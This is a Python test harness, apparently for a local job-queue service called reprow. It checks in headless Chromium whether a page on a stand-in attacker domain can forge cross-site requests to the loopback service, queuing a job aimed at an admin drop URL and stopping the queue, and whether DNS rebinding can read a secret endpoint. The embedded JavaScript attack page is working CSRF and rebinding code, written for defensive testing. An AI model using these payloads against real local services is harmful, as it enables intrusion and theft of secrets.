"""Attacks a loopback reprow from pages in a real headless Chromium, as a site the operator
happens to have open would (issue 21). Run by tests/cross_site.rs.

Usage: cross_site_check.py REPROW_PORT TARGET_URL

- A page on http://evil.example:<port>/ (served here; Chromium resolves evil.example to
  127.0.0.1 through --host-resolver-rules, as DNS would for a real attacker's name) sends
  "simple" cross-origin requests to http://127.0.0.1:REPROW_PORT, which need no preflight:
  a fireworq job as a form body whose url is TARGET_URL, a text/plain POST /control/default
  that stops the queue, a DELETE-less purge attempt, and an <img> GET that would lease a job.
- DNS rebinding: http://rebind.evil.example:REPROW_PORT/ (also resolved to 127.0.0.1) is
  opened, and a script on it reads /q/secret as if same-origin.

Prints one line `result <json>` with what the pages saw; the Rust test checks reprow's side.
"""
import http.server
import json
import sys
import threading

from cdp import chromium

REPROW_PORT, TARGET = sys.argv[1], sys.argv[2]

ATTACK = """<!doctype html><html><body><script>
const base = "http://127.0.0.1:%(port)s";
const job = JSON.stringify({url: "%(target)s/admin/drop", payload: {x: 1}});
const sent = [];
async function go() {
  const simple = [
    ["/job/x", "application/x-www-form-urlencoded", job],
    ["/job/x", "text/plain", job],
    ["/control/default", "text/plain;charset=UTF-8", '{"status":"stop"}'],
    ["/q/jobs", "text/plain", '{"evil":1}'],
  ];
  for (const [path, type, body] of simple) {
    try {
      await fetch(base + path, {method: "POST", mode: "no-cors", headers: {"Content-Type": type}, body});
      sent.push(path);
    } catch (e) { sent.push(path + " error " + e); }
  }
  await new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = base + "/q/jobs"; });
  window.attackDone = sent;
}
go();
</script></body></html>"""


class Attacker(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = (ATTACK % {"port": REPROW_PORT, "target": TARGET}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def main():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    evil_port = server.server_address[1]
    rules = "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebind.evil.example 127.0.0.1"
    try:
        with chromium("about:blank", rules) as page:
            page.call("Page.enable")
            sent = page.goto(f"http://evil.example:{evil_port}/", "window.attackDone")
            rebound = f"http://rebind.evil.example:{REPROW_PORT}"
            text = page.goto(rebound + "/",
                             "document.readyState === 'complete' && document.body.innerText")
            read = page.eval(
                "fetch('/q/secret').then(async r => ({status: r.status, body: await r.text()}))",
                await_promise=True)
            print("result " + json.dumps({"sent": sent, "rebound_page": text,
                                          "rebound_read": read}), flush=True)
    finally:
        server.shutdown()


main()
